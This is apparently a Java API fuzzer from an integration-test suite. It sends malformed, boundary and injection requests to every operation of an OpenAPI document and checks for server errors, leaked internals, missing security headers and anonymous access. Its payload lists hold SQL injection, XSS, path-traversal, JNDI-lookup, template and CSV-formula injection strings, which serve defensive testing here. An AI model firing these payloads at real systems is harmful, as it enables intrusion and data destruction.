package org.freelanceisland.itests;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.LongAdder;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Sends malformed, boundary and random requests to every operation of the OpenAPI document and
 * checks every answer: no 5xx, no stack trace, every 4xx a problem+json, the security headers,
 * no CORS, and anonymous callers never past the role check of a protected operation.
 *
 * <p>The requests never change data: an operation that may change something is sent only ids that
 * do not exist (its path parameters), or, when it has no path parameter, only bodies that are
 * invalid by construction (a wrong type, a missing required field, a value beyond a bound, an
 * unknown field, malformed JSON, a wrong content type). Reads are also sent real ids.
 *
 * <p>The requests are generated from the document with a fixed seed; when there are more than the
 * budget, a seeded sample is sent that keeps some of every operation.
 */
final class ApiFuzzer {

    /** Texts that should be stored, searched and shown as they are, never interpreted. */
    static final List<String> PAYLOADS = List.of(
            "' OR '1'='1' --", "'; DROP TABLE people_person; --", "1 UNION SELECT password FROM users",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "${jndi:ldap://example.invalid/a}", "{{7*7}}",
            "%s%s%s%n", "𠮷野家の𠮷ｶﾅｶﾞｷﾞ", "か\u3099き\u3099く\u3099", "\u202Etxt.exe", "\uFEFF先頭BOM", "a\u0000b",
            "\uD800", "🙂👍🏽‍", "   ", "\t\r\n");

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private final ApiOperations api;
    private final HttpProbe http;
    private final Map<String, String> authorization;
    private final Map<String, List<String>> realValues;
    private final Random random;
    private final ObjectMapper mapper = new ObjectMapper();

    /** One request to send. */
    record Request(String identity, String operation, String category, String method, String path, String contentType,
            byte[] body) {
    }

    /** A broken expectation. */
    record Finding(String what, Request request, int status, String body) {
        @Override
        public String toString() {
            String shown = body.length() > 300 ? body.substring(0, 300) + "…" : body;
            return what + ": " + request.identity() + " " + request.method() + " " + request.path() + " ["
                    + request.category() + (request.contentType() == null ? "" : ", " + request.contentType()) + "] -> "
                    + status + " " + shown.replaceAll("\\s+", " ");
        }
    }

    /** What a run found. */
    static final class Report {
        final AtomicInteger sent = new AtomicInteger();
        final Map<Integer, LongAdder> statuses = new ConcurrentHashMap<>();
        final Map<String, LongAdder> categories = new ConcurrentHashMap<>();
        final Map<String, LongAdder> operations = new ConcurrentHashMap<>();
        final LongAdder rejectedByServer = new LongAdder();
        final ConcurrentLinkedQueue<Finding> findings = new ConcurrentLinkedQueue<>();
        final AtomicLong millis = new AtomicLong();

        /** @return the statuses seen, sorted */
        Map<Integer, Long> histogram() {
            Map<Integer, Long> sorted = new TreeMap<>();
            statuses.forEach((status, count) -> sorted.put(status, count.sum()));
            return sorted;
        }

        /** @return how many 5xx answers there were */
        long serverErrors() {
            return histogram().entrySet().stream().filter(e -> e.getKey() >= 500).mapToLong(Map.Entry::getValue).sum();
        }

        @Override
        public String toString() {
            Map<String, Long> byCategory = new TreeMap<>();
            categories.forEach((c, n) -> byCategory.put(c, n.sum()));
            return "fuzz: " + sent + " requests to " + operations.size() + " operations in " + millis + " ms ("
                    + (sent.get() * 1000L / Math.max(1, millis.get())) + "/s); statuses " + histogram()
                    + "; refused by the HTTP server before the API (malformed URIs): " + rejectedByServer.sum()
                    + "; categories " + byCategory + "; findings " + findings.size();
        }
    }

    /**
     * Prepares a fuzzer.
     *
     * @param api the operations
     * @param http the sender
     * @param authorization the Authorization header of each identity ({@code null} value: anonymous)
     * @param realValues values of path parameters that exist, by path template and parameter name
     *        ({@code template#name}), for reads
     * @param seed the random seed
     */
    ApiFuzzer(ApiOperations api, HttpProbe http, Map<String, String> authorization, Map<String, List<String>> realValues,
            long seed) {
        this.api = api;
        this.http = http;
        this.authorization = authorization;
        this.realValues = realValues;
        this.random = new Random(seed);
    }

    // ------------------------------------------------------------------ generation

    /**
     * Every request the document gives rise to, for every identity.
     *
     * @return the requests, in a stable order
     */
    List<Request> generate() {
        List<Request> requests = new ArrayList<>();
        for (String identity : authorization.keySet()) {
            boolean anonymous = authorization.get(identity) == null;
            for (ApiOperations.Operation op : api.all()) {
                if (anonymous && !op.open()) {
                    requests.addAll(anonymousProbes(identity, op));
                } else {
                    requests.addAll(forOperation(identity, op));
                }
            }
        }
        return requests;
    }

    /**
     * A sample of at most {@code budget} requests that keeps at least {@code perOperation} of every
     * operation and identity.
     *
     * @param all every request
     * @param budget the most to send
     * @param perOperation the fewest kept per operation and identity
     * @return the sample, shuffled with the seed
     */
    List<Request> sample(List<Request> all, int budget, int perOperation) {
        if (all.size() <= budget) {
            List<Request> shuffled = new ArrayList<>(all);
            Collections.shuffle(shuffled, random);
            return shuffled;
        }
        Map<String, List<Request>> byOperation = new LinkedHashMap<>();
        for (Request request : all) {
            byOperation.computeIfAbsent(request.identity() + " " + request.operation(), k -> new ArrayList<>()).add(request);
        }
        List<Request> kept = new ArrayList<>();
        List<Request> rest = new ArrayList<>();
        for (List<Request> group : byOperation.values()) {
            List<Request> shuffled = new ArrayList<>(group);
            Collections.shuffle(shuffled, random);
            kept.addAll(shuffled.subList(0, Math.min(perOperation, shuffled.size())));
            rest.addAll(shuffled.subList(Math.min(perOperation, shuffled.size()), shuffled.size()));
        }
        Collections.shuffle(rest, random);
        kept.addAll(rest.subList(0, Math.max(0, Math.min(rest.size(), budget - kept.size()))));
        Collections.shuffle(kept, random);
        return kept;
    }

    /** An anonymous caller at a protected operation: whatever is sent, the role check must stop it. */
    private List<Request> anonymousProbes(String identity, ApiOperations.Operation op) {
        List<Request> requests = new ArrayList<>();
        String path = fill(op, false, 0);
        requests.add(request(identity, op, "anonymous", op.method(), path, null, null));
        if (!op.bodies().isEmpty()) {
            String type = op.bodies().keySet().iterator().next();
            requests.add(request(identity, op, "anonymous-body", op.method(), path, type, utf8("{\"x\":1}")));
            requests.add(request(identity, op, "anonymous-body", op.method(), path, "application/json", utf8("{")));
        }
        requests.add(request(identity, op, "anonymous", op.method(), fill(op, false, 1) + "?offset=-1", null, null));
        return requests;
    }

    private List<Request> forOperation(String identity, ApiOperations.Operation op) {
        List<Request> requests = new ArrayList<>();
        boolean unsafe = op.unsafe();
        boolean hasPath = !op.pathParams().isEmpty();
        if (unsafe && !hasPath && op.bodies().isEmpty()) {
            return requests; // nothing to send that would surely change nothing (for example signing out)
        }
        // path parameters: unknown and malformed values (reads also get real ones)
        for (ApiOperations.Param param : op.pathParams()) {
            for (String value : pathValues(op, param, unsafe)) {
                String path = fillWith(op, param.name(), value, unsafe);
                requests.add(request(identity, op, "path:" + kind(value), op.method(), path, bodyType(op),
                        unsafe ? validBody(op, true) : null));
            }
        }
        // query parameters, one at a time and all at once
        List<ApiOperations.Param> query = op.queryParams();
        for (ApiOperations.Param param : query) {
            for (String value : queryValues(param)) {
                String path = fill(op, unsafe, 0) + "?" + param.name() + "=" + encode(value);
                requests.add(request(identity, op, "query:" + kind(value), op.method(), path, unsafe ? bodyType(op) : null,
                        unsafe && !op.bodies().isEmpty() ? invalidBody(op) : null));
            }
        }
        if (!query.isEmpty() && (!unsafe || hasPath || !op.bodies().isEmpty())) {
            for (int i = 0; i < 3; i++) {
                StringBuilder all = new StringBuilder();
                for (ApiOperations.Param param : query) {
                    List<String> values = queryValues(param);
                    all.append(all.length() == 0 ? "?" : "&").append(param.name()).append('=')
                            .append(encode(values.get(random.nextInt(values.size()))));
                }
                requests.add(request(identity, op, "query:all", op.method(), fill(op, unsafe, i) + all,
                        unsafe ? bodyType(op) : null, unsafe && !op.bodies().isEmpty() ? invalidBody(op) : null));
            }
        }
        if (!unsafe || hasPath) {
            requests.add(request(identity, op, "query:unknown", op.method(), fill(op, unsafe, 0) + "?unknown=1&offset=&limit=",
                    bodyType(op), unsafe && !op.bodies().isEmpty() ? validBody(op, true) : null));
        }
        // bodies
        if (!op.bodies().isEmpty()) {
            requests.addAll(bodies(identity, op));
        }
        // other methods on the same path: 405 (never for a method that exists)
        if (!unsafe) {
            for (String method : List.of("PATCH", "PUT")) {
                if (api.all().stream().noneMatch(o -> o.path().equals(op.path()) && o.method().equals(method))) {
                    requests.add(request(identity, op, "method", method, fill(op, true, 0), "application/json",
                            utf8("{\"unknownField\":true}")));
                }
            }
        }
        return requests;
    }

    private List<Request> bodies(String identity, ApiOperations.Operation op) {
        List<Request> requests = new ArrayList<>();
        boolean safeTarget = !op.pathParams().isEmpty(); // an unknown id: any body is harmless
        String path = fill(op, op.unsafe(), 0);
        String jsonType = op.bodies().keySet().stream().filter(ApiFuzzer::isJson).findFirst().orElse(null);
        for (String type : op.bodies().keySet()) {
            if (!isJson(type)) {
                requests.addAll(rawBodies(identity, op, path, type));
            }
        }
        if (jsonType == null) {
            // a wrong content type for an upload
            requests.add(request(identity, op, "content-type", op.method(), path, "application/json", utf8("{\"file\":\"x\"}")));
            requests.add(request(identity, op, "content-type", op.method(), path, "application/x-www-form-urlencoded",
                    utf8("a=1&b=2")));
            return requests;
        }
        // malformed JSON
        for (String malformed : List.of("", "{", "}", "[", "{\"a\":", "{\"a\" 1}", "{'a':1}", "null", "true", "0", "\"text\"",
                "[]", "[{}]", "{}{}", "{\"a\":1,}", "{\"a\":NaN}", "{\"a\":1e99999}", "{\"a\":01}", "{\"a\":\"\\x\"}",
                "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(200) + "1" + "}".repeat(200),
                "\uFEFF{}")) {
            if (safeTarget || !isPossiblyValid(op, malformed)) {
                requests.add(request(identity, op, "json:malformed", op.method(), path, jsonType, utf8(malformed)));
            }
        }
        requests.add(request(identity, op, "json:bad-utf8", op.method(), path, jsonType,
                new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', ',', '"', 'z', '"', ':', '[', '}' }));
        requests.add(request(identity, op, "json:latin1", op.method(), path, "application/json; charset=ISO-8859-1",
                "{\"ünknown\":\"é\"}".getBytes(StandardCharsets.ISO_8859_1)));
        // wrong content types
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "text/csv",
                "multipart/form-data; boundary=x", "application/octet-stream", "image/png")) {
            if (!op.bodies().containsKey(type) && !op.bodies().containsKey(type.split(";")[0])) {
                requests.add(request(identity, op, "content-type", op.method(), path, type, utf8("{\"unknownField\":1}")));
            }
        }
        requests.add(request(identity, op, "content-type", op.method(), path, null, utf8("{\"unknownField\":1}")));
        // too large for the operation
        long limit = op.maxRequestBytes() > 0 ? op.maxRequestBytes() : 1_048_576;
        if (limit <= 4 * 1_048_576) {
            requests.add(request(identity, op, "json:too-large", op.method(), path, jsonType,
                    utf8("{\"x\":\"" + "あ".repeat((int) (limit / 3) + 10) + "\"}")));
        }
        // schema-based mutations of a body that is otherwise well formed
        JsonNode schema = api.resolve(op.bodies().get(jsonType));
        for (Mutation mutation : mutations(schema)) {
            if (!safeTarget && !mutation.surelyInvalid()) {
                continue;
            }
            requests.add(request(identity, op, "json:" + mutation.kind(), op.method(), path, jsonType, utf8(mutation.body())));
        }
        return requests;
    }

    /** Bodies for an upload (CSV, images, forms, bytes): garbage, empty, fake images, broken forms. */
    private List<Request> rawBodies(String identity, ApiOperations.Operation op, String path, String type) {
        List<Request> requests = new ArrayList<>();
        byte[] garbage = new byte[2048];
        random.nextBytes(garbage);
        List<byte[]> bodies = new ArrayList<>(List.of(new byte[0], garbage, utf8("<html><script>alert(1)</script></html>"),
                utf8("GIF89a<script>alert(1)</script>"), new byte[] { (byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0 },
                new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 0 },
                utf8("列1,列2\r\n\"unterminated,quote\r\n"), utf8("\uFEFFa,b,c\r\n1,2\r\n" + "x,".repeat(5000)),
                utf8("=cmd|' /C calc'!A0,@SUM(1+1)\r\n")));
        String contentType = type;
        if (type.startsWith("multipart/")) {
            contentType = "multipart/form-data; boundary=fuzzboundary";
            bodies.add(utf8("--fuzzboundary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../x.csv\"\r\n"
                    + "Content-Type: text/csv\r\n\r\nnot,a,valid,file\r\n--fuzzboundary--\r\n"));
            bodies.add(utf8("--fuzzboundary\r\nContent-Disposition: form-data; name=\"entry\"\r\n\r\n{\"title\":1}\r\n--fuzzboundary"));
            bodies.add(utf8("--otherboundary\r\n\r\n\r\n"));
            requests.add(request(identity, op, "upload:no-boundary", op.method(), path, "multipart/form-data",
                    utf8("--x\r\n\r\n--x--")));
        }
        for (byte[] body : bodies) {
            if (!op.pathParams().isEmpty() || !isCsvImport(type) || !looksLikeImport(body)) {
                requests.add(request(identity, op, "upload:" + (body.length == 0 ? "empty" : "garbage"), op.method(), path,
                        contentType, body));
            }
        }
        long limit = op.maxRequestBytes() > 0 ? op.maxRequestBytes() : 1_048_576;
        if (limit <= 64L * 1_048_576) {
            requests.add(request(identity, op, "upload:too-large", op.method(), path, contentType, new byte[(int) limit + 1]));
        }
        return requests;
    }

    private static boolean isCsvImport(String type) {
        return type.startsWith("text/") || type.startsWith("application/octet-stream") || type.startsWith("multipart/");
    }

    /** Whether garbage could read as a file of the people import (it never has both required columns). */
    private static boolean looksLikeImport(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        return text.contains("氏名") && text.contains("フリガナ");
    }

    /** A mutation of a body: its kind, the JSON and whether it is invalid whatever the operation. */
    record Mutation(String kind, String body, boolean surelyInvalid) {
    }

    private List<Mutation> mutations(JsonNode schema) {
        List<Mutation> mutations = new ArrayList<>();
        if (!schema.path("type").asText("object").equals("object") && !schema.has("properties")) {
            // an array or a scalar body
            mutations.add(new Mutation("wrong-type", "{\"unknownField\":1}", true));
            mutations.add(new Mutation("wrong-type", "\"" + "x".repeat(10) + "\"", true));
            return mutations;
        }
        ObjectNode valid = (ObjectNode) valid(schema, 0);
        mutations.add(new Mutation("unknown-field", withField(valid, "unknownField", JSON.textNode("x")), true));
        mutations.add(new Mutation("valid-ish", valid.toString(), false));
        for (String payload : PAYLOADS) {
            ObjectNode copy = valid.deepCopy();
            boolean any = false;
            for (Map.Entry<String, JsonNode> property : ApiOperations.properties(schema).entrySet()) {
                JsonNode p = api.resolve(property.getValue());
                if (p.path("type").asText().equals("string") && !p.has("enum") && !p.has("format") && !p.has("pattern")) {
                    copy.put(property.getKey(), payload);
                    any = true;
                }
            }
            if (any) {
                mutations.add(new Mutation("payload", copy.toString(), false));
                copy.put("unknownField", payload);
                mutations.add(new Mutation("payload+unknown", copy.toString(), true));
            }
        }
        for (String required : ApiOperations.required(schema)) {
            ObjectNode copy = valid.deepCopy();
            copy.remove(required);
            mutations.add(new Mutation("missing", copy.toString(), true));
            mutations.add(new Mutation("null", withField(valid, required, JSON.nullNode()), true));
        }
        for (Map.Entry<String, JsonNode> property : ApiOperations.properties(schema).entrySet()) {
            String name = property.getKey();
            JsonNode p = api.resolve(property.getValue());
            String type = p.path("type").asText(p.has("properties") ? "object" : "");
            // a wrong type, always refused
            JsonNode wrong = switch (type) {
                case "string" -> JSON.objectNode().put("nested", "x");
                case "integer", "number" -> JSON.textNode("zwölf");
                case "boolean" -> JSON.textNode("maybe");
                case "array" -> JSON.textNode("not a list");
                default -> JSON.numberNode(42);
            };
            mutations.add(new Mutation("wrong-type", withField(valid, name, wrong), true));
            switch (type) {
                case "string" -> {
                    if (p.has("enum")) {
                        mutations.add(new Mutation("enum", withField(valid, name, JSON.textNode("NOT_A_VALUE")), true));
                        mutations.add(new Mutation("enum", withField(valid, name,
                                JSON.textNode(p.path("enum").get(0).asText().toLowerCase(Locale.ROOT) + "x")), true));
                    } else if (p.path("format").asText().startsWith("date")) {
                        boolean required = ApiOperations.required(schema).contains(name);
                        for (String bad : List.of("2025-02-30", "2025-13-01", "20250401", "01/04/2025", "yesterday",
                                "2025-04-01T25:61:00Z", "0000-00-00")) {
                            mutations.add(new Mutation("date", withField(valid, name, JSON.textNode(bad)), true));
                        }
                        // an empty text reads as no date; the largest date is a date
                        mutations.add(new Mutation("date", withField(valid, name, JSON.textNode("")), required));
                        mutations.add(new Mutation("date", withField(valid, name,
                                JSON.textNode(p.path("format").asText().equals("date") ? "+999999999-12-31"
                                        : "+1000000000-12-31T23:59:59Z")), false));
                    } else if (p.has("pattern")) {
                        mutations.add(new Mutation("pattern", withField(valid, name, JSON.textNode("25:99")), true));
                    } else {
                        int max = p.path("maxLength").asInt(0);
                        if (max > 0) {
                            mutations.add(new Mutation("too-long", withField(valid, name, JSON.textNode("𠮷".repeat(max / 2 + 1)
                                    + "x".repeat(max))), true));
                        }
                        mutations.add(new Mutation("huge-string", withField(valid, name, JSON.textNode("長".repeat(100_000))),
                                max > 0));
                    }
                }
                case "integer", "number" -> {
                    boolean integer = type.equals("integer");
                    for (String n : List.of("9223372036854775808", "-9223372036854775809", "1e308", "12.5")) {
                        mutations.add(new Mutation("number", withRaw(valid, name, n), integer));
                    }
                    mutations.add(new Mutation("number", withRaw(valid, name, "-0"), p.path("minimum").asLong(0) > 0));
                    if (p.has("minimum")) {
                        mutations.add(new Mutation("below-minimum",
                                withRaw(valid, name, Long.toString(p.path("minimum").asLong() - 1)), true));
                    }
                    if (p.has("maximum")) {
                        mutations.add(new Mutation("above-maximum",
                                withRaw(valid, name, Long.toString(p.path("maximum").asLong() + 1)), true));
                    }
                    mutations.add(new Mutation("number", withRaw(valid, name, "-1"), p.path("minimum").asLong(-1) >= 0));
                }
                case "array" -> {
                    int maxItems = p.path("maxItems").asInt(0);
                    if (maxItems > 0) {
                        ArrayNode many = JSON.arrayNode();
                        JsonNode item = valid(api.resolve(p.path("items")), 1);
                        for (int i = 0; i <= maxItems; i++) {
                            many.add(item.deepCopy());
                        }
                        mutations.add(new Mutation("too-many", withField(valid, name, many), true));
                    }
                    ArrayNode nulls = JSON.arrayNode();
                    nulls.addNull();
                    mutations.add(new Mutation("null-item", withField(valid, name, nulls), false));
                }
                case "object" -> {
                    ObjectNode nested = JSON.objectNode();
                    nested.put("unknownField", "x");
                    mutations.add(new Mutation("nested-unknown", withField(valid, name, nested), p.has("properties")));
                }
                default -> {
                    // nothing more
                }
            }
        }
        return mutations;
    }

    /** Whether a malformed JSON text could still be a valid body of an operation without a path parameter. */
    private boolean isPossiblyValid(ApiOperations.Operation op, String text) {
        String body = text.strip();
        return body.equals("{}") && ApiOperations.required(api.resolve(op.bodies().values().iterator().next())).isEmpty()
                || body.equals("\uFEFF{}");
    }

    /** A body that satisfies the schema as far as the schema says (the domain's rules may still refuse it). */
    private JsonNode valid(JsonNode schema, int depth) {
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "");
        if (schema.has("enum")) {
            return JSON.textNode(schema.path("enum").get(0).asText());
        }
        switch (type) {
            case "object" -> {
                ObjectNode object = JSON.objectNode();
                if (depth > 4) {
                    return object;
                }
                for (Map.Entry<String, JsonNode> property : ApiOperations.properties(schema).entrySet()) {
                    object.set(property.getKey(), valid(api.resolve(property.getValue()), depth + 1));
                }
                return object;
            }
            case "array" -> {
                ArrayNode array = JSON.arrayNode();
                if (depth < 4) {
                    array.add(valid(api.resolve(schema.path("items")), depth + 1));
                }
                return array;
            }
            case "integer", "number" -> {
                long min = schema.path("minimum").asLong(1);
                long max = schema.path("maximum").asLong(Long.MAX_VALUE);
                return JSON.numberNode(Math.max(min, Math.min(max, Math.max(min, 1))));
            }
            case "boolean" -> {
                return JSON.booleanNode(true);
            }
            case "string" -> {
                String format = schema.path("format").asText();
                if (format.equals("date")) {
                    return JSON.textNode("2025-06-01");
                }
                if (format.equals("date-time")) {
                    return JSON.textNode("2025-06-01T10:00:00Z");
                }
                if (schema.has("pattern")) {
                    String pattern = schema.path("pattern").asText();
                    for (String candidate : List.of("10:00", "fuzz-1", "2025-04", "a", "A1")) {
                        if (java.util.regex.Pattern.compile(pattern).matcher(candidate).find()) {
                            return JSON.textNode(candidate);
                        }
                    }
                    return JSON.textNode("fuzz");
                }
                int max = schema.path("maxLength").asInt(40);
                String text = "ふぁじんぐ𠮷ｶﾅ";
                return JSON.textNode(text.length() > max ? text.substring(0, Math.max(1, max)) : text);
            }
            default -> {
                return JSON.objectNode();
            }
        }
    }

    private String validBody(ApiOperations.Operation op, boolean forUnknownId) {
        if (op.bodies().isEmpty() || !forUnknownId) {
            return null;
        }
        String type = bodyType(op);
        return isJson(type) ? valid(api.resolve(op.bodies().get(type)), 0).toString() : "x";
    }

    private String invalidBody(ApiOperations.Operation op) {
        return isJson(bodyType(op)) ? "{\"unknownField\":true," : "";
    }

    private static String withField(ObjectNode valid, String name, JsonNode value) {
        ObjectNode copy = valid.deepCopy();
        copy.set(name, value);
        return copy.toString();
    }

    private static String withRaw(ObjectNode valid, String name, String raw) {
        ObjectNode copy = valid.deepCopy();
        copy.put(name, "__RAW__");
        return copy.toString().replace("\"__RAW__\"", raw);
    }

    private static String bodyType(ApiOperations.Operation op) {
        return op.bodies().isEmpty() ? null : op.bodies().keySet().iterator().next();
    }

    private static boolean isJson(String type) {
        return type != null && (type.startsWith("application/json") || type.contains("+json"));
    }

    // ------------------------------------------------------------------ values

    private List<String> pathValues(ApiOperations.Operation op, ApiOperations.Param param, boolean unsafe) {
        List<String> values = new ArrayList<>();
        if (!unsafe) {
            values.addAll(realValues.getOrDefault(op.path() + "#" + param.name(), List.of()).stream().limit(3).toList());
        }
        values.addAll(List.of("987654321", "0", "-1", "2147483648", "9223372036854775807", "9223372036854775808",
                "99999999999999999999999", "1.5", "1e3", "abc", "null", "nonexistent-ｶﾅ-𠮷", "%", "../../etc/passwd",
                "..\\..\\windows", "' OR '1'='1", "<script>alert(1)</script>", "か\u3099", " ", "x".repeat(2000)));
        return values;
    }

    private List<String> queryValues(ApiOperations.Param param) {
        JsonNode schema = api.resolve(param.schema());
        List<String> values = new ArrayList<>(List.of("", " ", "-1", "0", "2147483648", "99999999999999999999", "abc",
                "2025-02-30", "2025-13-01", "1e9", "' OR 1=1 --", "<script>alert(1)</script>", "𠮷ｶﾅか\u3099",
                "x".repeat(5000), "%", "maybe", "../../etc/passwd", "\u0000"));
        if (schema.has("enum")) {
            values.add("NOT_A_VALUE");
        }
        if (schema.has("maximum")) {
            values.add(Long.toString(schema.path("maximum").asLong() + 1));
        }
        return values;
    }

    /** The path with every parameter filled: unknown ids for changes, else a real value when there is one. */
    private String fill(ApiOperations.Operation op, boolean unsafe, int variant) {
        String path = op.path();
        for (ApiOperations.Param param : op.pathParams()) {
            path = path.replace("{" + param.name() + "}", encode(defaultValue(op, param, unsafe, variant)));
        }
        return path;
    }

    private String fillWith(ApiOperations.Operation op, String name, String value, boolean unsafe) {
        String path = op.path();
        for (ApiOperations.Param param : op.pathParams()) {
            String v = param.name().equals(name) ? value : defaultValue(op, param, unsafe, 0);
            path = path.replace("{" + param.name() + "}", encode(v));
        }
        return path;
    }

    private String defaultValue(ApiOperations.Operation op, ApiOperations.Param param, boolean unsafe, int variant) {
        List<String> real = realValues.getOrDefault(op.path() + "#" + param.name(), List.of());
        if (!unsafe && !real.isEmpty()) {
            return real.get(variant % real.size());
        }
        return param.schema().path("type").asText().equals("integer") ? "987654321" : "no-such-thing";
    }

    private static String kind(String value) {
        if (value.isBlank()) {
            return "blank";
        }
        if (value.matches("-?\\d+")) {
            return value.length() > 9 ? "overflow" : "number";
        }
        if (value.length() > 100) {
            return "long";
        }
        return value.matches("[\\w-]+") ? "text" : "payload";
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static Request request(String identity, ApiOperations.Operation op, String category, String method, String path,
            String contentType, Object body) {
        byte[] bytes = body == null ? null : body instanceof byte[] b ? b : utf8(body.toString());
        if (bytes == null && contentType != null && ApiOperations.UNSAFE.contains(method)) {
            bytes = new byte[0];
        }
        return new Request(identity, op.key(), category, method, path, bytes == null ? null : contentType, bytes);
    }

    // ------------------------------------------------------------------ sending and checking

    /**
     * Sends the requests and checks every answer.
     *
     * @param requests the requests
     * @param threads how many at once
     * @return what was seen
     * @throws InterruptedException if interrupted
     */
    Report run(List<Request> requests, int threads) throws InterruptedException {
        Report report = new Report();
        long start = System.nanoTime();
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        for (Request request : requests) {
            pool.execute(() -> {
                try {
                    HttpProbe.Answer answer = http.send(request.method(), request.path(),
                            authorization.get(request.identity()), request.contentType(), request.body());
                    check(request, answer, report);
                } catch (RuntimeException e) {
                    if (request.category().endsWith("too-large")) {
                        // refused before it was read: the server answered 413 and closed the connection
                        report.sent.incrementAndGet();
                        report.statuses.computeIfAbsent(413, s -> new LongAdder()).increment();
                    } else {
                        report.findings.add(new Finding("no answer", request, 0, e.toString()));
                    }
                }
            });
        }
        pool.shutdown();
        if (!pool.awaitTermination(30, TimeUnit.MINUTES)) {
            pool.shutdownNow();
        }
        report.millis.set((System.nanoTime() - start) / 1_000_000);
        return report;
    }

    private void check(Request request, HttpProbe.Answer answer, Report report) {
        int status = answer.status();
        report.sent.incrementAndGet();
        report.statuses.computeIfAbsent(status, s -> new LongAdder()).increment();
        report.categories.computeIfAbsent(request.category().replaceAll(":.*", ""), c -> new LongAdder()).increment();
        report.operations.computeIfAbsent(request.operation(), c -> new LongAdder()).increment();
        String contentType = answer.header("Content-Type").toLowerCase(Locale.ROOT);
        boolean textual = contentType.isEmpty() || contentType.contains("json") || contentType.startsWith("text/")
                || contentType.contains("html") || contentType.contains("xml");
        String text = textual ? answer.text() : "";
        if (status >= 500) {
            report.findings.add(new Finding("server error", request, status, text));
        }
        if (textual && (text.contains("\tat ") || text.contains("at org.") || text.contains("at java.")
                || text.contains("Exception") || text.contains("org.eclipse.persistence") || text.contains("SQL state"))) {
            report.findings.add(new Finding("internals in the body", request, status, text));
        }
        if (!answer.header("Access-Control-Allow-Origin").isEmpty()) {
            report.findings.add(new Finding("CORS header", request, status, answer.header("Access-Control-Allow-Origin")));
        }
        if (rejectedByServer(answer)) {
            report.rejectedByServer.increment();
            if (status != 400 && status != 414 && status != 431) {
                report.findings.add(new Finding("server refusal that is not a 400, 414 or 431", request, status, text));
            }
            return;
        }
        if (!"nosniff".equals(answer.header("X-Content-Type-Options"))) {
            report.findings.add(new Finding("no X-Content-Type-Options", request, status, text));
        }
        if (status >= 400 && status < 500) {
            if (!contentType.startsWith("application/problem+json")) {
                report.findings.add(new Finding("a 4xx that is not problem+json (" + contentType + ")", request, status, text));
            } else {
                try {
                    JsonNode problem = mapper.readTree(answer.body());
                    if (problem.path("status").asInt() != status || problem.path("title").asText().isEmpty()
                            || !problem.path("errors").isArray()) {
                        report.findings.add(new Finding("a problem without its status, title or errors", request, status, text));
                    }
                } catch (java.io.IOException e) {
                    report.findings.add(new Finding("a problem that is not JSON", request, status, text));
                }
            }
        }
        boolean anonymous = authorization.get(request.identity()) == null;
        ApiOperations.Operation op = operation(request.operation());
        if (anonymous && op != null && !op.open() && (status < 400 || status == 400 || status == 409 || status == 422)) {
            report.findings.add(new Finding("an anonymous caller got past the role check", request, status, text));
        }
    }

    private final Map<String, ApiOperations.Operation> byKey = new ConcurrentHashMap<>();

    private ApiOperations.Operation operation(String key) {
        if (byKey.isEmpty()) {
            api.all().forEach(op -> byKey.put(op.key(), op));
        }
        return byKey.get(key);
    }

    /** Jetty's own answer to a request it will not hand to any servlet (a malformed or ambiguous URI). */
    static boolean rejectedByServer(HttpProbe.Answer answer) {
        return answer.header("Content-Type").startsWith("text/html") && answer.text().startsWith("<h1>Bad Message")
                && answer.header("X-Content-Type-Options").isEmpty();
    }
}
